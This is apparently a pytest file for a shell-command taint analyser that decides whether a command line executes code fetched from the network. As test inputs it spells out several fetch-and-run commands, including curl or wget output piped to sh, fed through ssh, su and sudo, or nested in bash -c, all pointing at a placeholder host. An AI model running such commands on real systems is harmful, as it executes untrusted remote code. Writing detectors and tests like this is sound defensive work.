"""The taint walk of history/shell_flow.py: what it learns about files, variables and archives."""

from __future__ import annotations

import shlex

import pytest

from mimomem.history.shell_flow import MAX_DEPTH, analyse


def test_files_a_fetch_writes_and_a_line_runs_are_followed() -> None:
    flow = analyse("curl -sSLo get.sh https://x.example/get.sh && wget -P /tmp https://x.example/b.sh; chmod +x get.sh")
    assert flow.written == ["get.sh", "b.sh"]
    assert "get.sh" in flow.run and "get.sh" in flow.executable
    assert not flow.unsafe


def test_a_copy_a_variable_and_an_archive_carry_the_taint() -> None:
    assert analyse("curl -s https://x.example/a > a; mv a b.sh; bash b.sh").unsafe
    assert analyse('V=$(wget -qO- https://x.example/v); bash -c "$V"').unsafe
    assert analyse("curl -sL https://x.example/t.tgz | tar xz && sh t/setup.sh").unsafe
    assert not analyse('V=$(wget -qO- https://x.example/v); echo "$V"').unsafe


def test_data_passes_through_filters_to_an_interpreter() -> None:
    assert analyse("curl -s https://x.example/a | grep -v '^#' | tr -d '\\r' | sh").unsafe
    assert not analyse("curl -s https://x.example/a | grep -v '^#' | tr -d '\\r' > a.txt").unsafe


@pytest.mark.parametrize(
    "command",
    [
        "curl -s https://x.example/a | ssh build-01",  # a remote login shell reads stdin
        "ssh -p 2222 build-01 'curl -s https://x.example/a | sh'",
        "su -c 'curl -s https://x.example/a | bash' deploy",
        "sudo -u deploy -- bash -lc 'wget -qO- https://x.example/a | sh'",
    ],
)
def test_code_strings_of_other_shells_are_walked(command: str) -> None:
    assert analyse(command).unsafe


def test_deep_nesting_errs_on_the_safe_side() -> None:
    inner = "curl -s https://x.example/a | sh"
    for _ in range(MAX_DEPTH + 2):
        inner = f"bash -c {shlex.quote(inner)}"
    assert analyse(inner).unsafe
